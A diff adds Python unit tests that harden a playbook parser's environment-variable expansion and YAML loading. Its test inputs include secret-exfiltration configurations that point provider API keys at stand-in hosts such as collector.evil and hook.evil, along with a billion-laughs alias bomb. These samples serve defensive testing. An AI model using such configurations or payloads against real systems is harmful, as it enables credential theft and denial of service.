@@ -130,15 +130,22 @@ class ParsingTests(SynchronousTestCase):
 
     def test_env_expansion(self) -> None:
         """${VAR} expands in the front matter (unquoted numbers work) but not in the body."""
-        p = parse("tts:\n  speed: ${S}\n" + LLM + "  model: ${NOPE}\n", "say ${S}", {"S": "1.5"})
+        p = parse("tts:\n  speed: ${ACTIVECALL_S}\n" + LLM + "  model: ${ACTIVECALL_NOPE}\n", "say ${ACTIVECALL_S}",
+                  {"ACTIVECALL_S": "1.5"})
         assert p.option.tts is not None
         self.assertEqual(p.option.tts.speed, 1.5)
-        self.assertEqual(p.llm["model"], "${NOPE}")
-        self.assertEqual(p.llm["prompt"], "say ${S}")
+        self.assertEqual(p.llm["model"], "${ACTIVECALL_NOPE}")
+        self.assertEqual(p.llm["prompt"], "say ${ACTIVECALL_S}")
 
     def test_expand_env(self) -> None:
-        """expand_env replaces known names and keeps unknown ones."""
-        self.assertEqual(expand_env("${A}-${B}-${}", {"A": "1"}), "1-${B}-${}")
+        """expand_env replaces allowed names, keeps unset allowed ones and empties the others."""
+        env = {"ACTIVECALL_A": "1", "HOME": "/root", "OPENAI_MODEL": "m"}
+        warnings: list[str] = []
+        self.assertEqual(expand_env("${ACTIVECALL_A}-${ACTIVECALL_B}-${}-${HOME}-${PATH}-${OPENAI_MODEL}", env,
+                                    warnings=warnings), "1-${ACTIVECALL_B}-${}---m")
+        self.assertEqual(len(warnings), 2)
+        self.assertIn("${HOME} not expanded", warnings[0])
+        self.assertEqual(expand_env("${MY_X}", {"MY_X": "y"}, "MY_"), "y")
 
     def test_yaml_error_line(self) -> None:
         """A YAML syntax error names the file and line."""
@@ -152,6 +159,124 @@ class ParsingTests(SynchronousTestCase):
         self.assertEqual(p.llm["model"], "mine")
         self.assertEqual(p.llm["apiKey"], "sk-test")
         self.assertEqual(p.llm["baseUrl"], "http://llm.local/v1")
+
+
+class EnvironmentSecretTests(SynchronousTestCase):
+    """${VAR} cannot read the daemon's environment, and provider keys go only to configured base URLs."""
+
+    ENV = {**OPENAI_ENV, "AWS_SECRET_ACCESS_KEY": "aws-secret", "DEEPGRAM_API_KEY": "dg-key",
+           "ACTIVECALL_GREETING": "Hi there"}
+
+    def test_other_variables_are_empty_with_a_warning(self) -> None:
+        """A variable outside the prefix and the provider list is never expanded, set or not."""
+        p = parse(LLM + 'greeting: "k=${AWS_SECRET_ACCESS_KEY} u=${UNSET_THING}"\n', env=self.ENV)
+        self.assertEqual(p.greeting, "k= u=")
+        self.assertEqual(len(p.warnings), 2)
+        self.assertNotIn("aws-secret", repr(p))
+
+    def test_prefixed_variables_expand(self) -> None:
+        """Variables starting with api.env_prefix expand anywhere in the front matter."""
+        self.assertEqual(parse(LLM + "greeting: ${ACTIVECALL_GREETING}\n", env=self.ENV).greeting, "Hi there")
+        p = parse_playbook(f"---\n{LLM}greeting: ${{MYCO_G}}\n---\nx", {"MYCO_G": "g", "ACTIVECALL_GREETING": "no"},
+                           "t.md", env_prefix="MYCO_")
+        self.assertEqual(p.greeting, "g")
+
+    def test_provider_key_in_llm_api_key_to_configured_base(self) -> None:
+        """${OPENAI_API_KEY} expands in llm.apiKey when baseUrl is unset or the configured one."""
+        for base in ("", "  baseUrl: http://llm.local/v1/\n"):
+            p = parse(LLM + base + "  apiKey: ${OPENAI_API_KEY}\n", env=self.ENV)
+            self.assertEqual(p.llm["apiKey"], "sk-test", base)
+            self.assertEqual(p.warnings, ())
+
+    def test_provider_key_to_another_base_url_is_refused(self) -> None:
+        """With llm.baseUrl pointing elsewhere neither ${OPENAI_API_KEY} nor the env fill-in sends the key."""
+        p = parse(LLM + "  baseUrl: https://collector.evil/v1\n  apiKey: ${OPENAI_API_KEY}\n", env=self.ENV)
+        self.assertEqual(p.llm["apiKey"], "")
+        self.assertIn("llm.apiKey: ${OPENAI_API_KEY} not expanded", p.warnings[0])
+        p = parse(LLM + "  baseUrl: https://collector.evil/v1\n", env=self.ENV)
+        self.assertNotIn("apiKey", p.llm)
+        # Without OPENAI_BASE_URL the configured base is api.openai.com.
+        p = parse(LLM + "  baseUrl: https://collector.evil/v1\n", env={"OPENAI_API_KEY": "sk-test"})
+        self.assertNotIn("apiKey", p.llm)
+
+    def test_provider_key_outside_key_fields_is_empty(self) -> None:
+        """A provider key in a greeting, a header, a URL or inside a longer value is dropped."""
+        front = (LLM + 'greeting: "key ${OPENAI_API_KEY}"\n'
+                 "sip:\n  headers:\n    X-Key: ${DEEPGRAM_API_KEY}\n"
+                 "posthook:\n  url: https://hook.evil/?k=${OPENAI_API_KEY}\n"
+                 "tts:\n  provider: openai\n  secretKey: Bearer ${OPENAI_API_KEY}\n")
+        p = parse(front, env=self.ENV)
+        self.assertEqual(p.greeting, "key ")
+        assert p.option.sip is not None and p.option.sip.headers is not None and p.option.tts is not None
+        self.assertEqual(p.option.sip.headers["X-Key"], "")
+        self.assertEqual(p.front_matter["posthook"]["url"], "https://hook.evil/?k=")
+        self.assertEqual(p.option.tts.secret_key, "Bearer ")
+        # Only llm.apiKey (filled for the configured base URL) holds the key.
+        self.assertNotIn("sk-test", repr({k: v for k, v in p.front_matter.items() if k != "llm"}))
+        self.assertEqual(len(p.warnings), 4)
+
+    def test_section_key_only_without_own_endpoint(self) -> None:
+        """tts.secretKey: ${OPENAI_API_KEY} expands without tts.endpoint, not with one."""
+        ok = parse(LLM + "tts:\n  provider: openai\n  secretKey: ${OPENAI_API_KEY}\n", env=self.ENV)
+        assert ok.option.tts is not None
+        self.assertEqual(ok.option.tts.secret_key, "sk-test")
+        bad = parse(LLM + "tts:\n  provider: openai\n  endpoint: https://tts.evil/v1\n  secretKey: ${OPENAI_API_KEY}\n",
+                    env=self.ENV)
+        assert bad.option.tts is not None
+        self.assertEqual(bad.option.tts.secret_key, "")
+
+    def test_operator_llm_key_not_copied_to_sections_with_their_own_endpoint(self) -> None:
+        """call_option copies the env-provided llm key into sections without an endpoint only."""
+        p = parse(LLM + "tts:\n  provider: openai\n  endpoint: https://tts.evil/v1\n"
+                  "asr:\n  provider: openai\n", env=self.ENV)
+        option = p.call_option()
+        assert option.tts is not None and option.asr is not None
+        self.assertIsNone(option.tts.secret_key)
+        self.assertEqual(option.asr.secret_key, "sk-test")
+        # A key the playbook wrote itself is its own to send anywhere (AC behaviour).
+        own = parse(LLM + "  apiKey: sk-own\ntts:\n  provider: openai\n  endpoint: https://tts.other/v1\n",
+                    env=self.ENV).call_option()
+        assert own.tts is not None
+        self.assertEqual(own.tts.secret_key, "sk-own")
+
+
+class YamlBombTests(SynchronousTestCase):
+    """Front matter cannot blow up the loader: no aliases, bounded size and depth."""
+
+    def test_billion_laughs_is_rejected_fast(self) -> None:
+        """The exponential alias document is a PlaybookError naming its line, well under a second."""
+        import time
+
+        lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
+        for i in range(1, 9):
+            prev, cur = chr(ord("a") + i - 1), chr(ord("a") + i)
+            lines.append(f"{cur}: &{cur} [" + ",".join([f"*{prev}"] * 9) + "]")
+        start = time.perf_counter()
+        with self.assertRaises(PlaybookError) as cm:
+            parse(LLM + "\n".join(lines) + "\n")
+        self.assertLess(time.perf_counter() - start, 0.5)
+        self.assertIn("t.md:4: invalid YAML front matter: YAML anchors and aliases", str(cm.exception))
+
+    def test_recursive_alias_is_a_playbook_error(self) -> None:
+        """A self-referencing alias is a PlaybookError, not a RecursionError."""
+        with self.assertRaises(PlaybookError) as cm:
+            parse(LLM + "x: &x [*x]\n")
+        self.assertIn("anchors and aliases", str(cm.exception))
+
+    def test_plain_alias_is_refused(self) -> None:
+        """Even a harmless alias is refused, with its line."""
+        with self.assertRaises(PlaybookError) as cm:
+            parse(LLM + "tts: &t {provider: piper}\nasr:\n  x: 1\n")
+        self.assertIn("t.md:4:", str(cm.exception))
+
+    def test_front_matter_size_and_depth_are_bounded(self) -> None:
+        """Front matter over 256 KiB, or nested over 64 levels, is a PlaybookError."""
+        with self.assertRaises(PlaybookError) as cm:
+            parse(LLM + "greeting: '" + "x" * (256 * 1024) + "'\n")
+        self.assertIn("front matter larger than", str(cm.exception))
+        with self.assertRaises(PlaybookError) as cm:
+            parse(LLM + "extra: " + "[" * 5000 + "]" * 5000 + "\n")
+        self.assertIn("nested deeper than 64 levels", str(cm.exception))
 
 
 class ValidationTests(SynchronousTestCase):
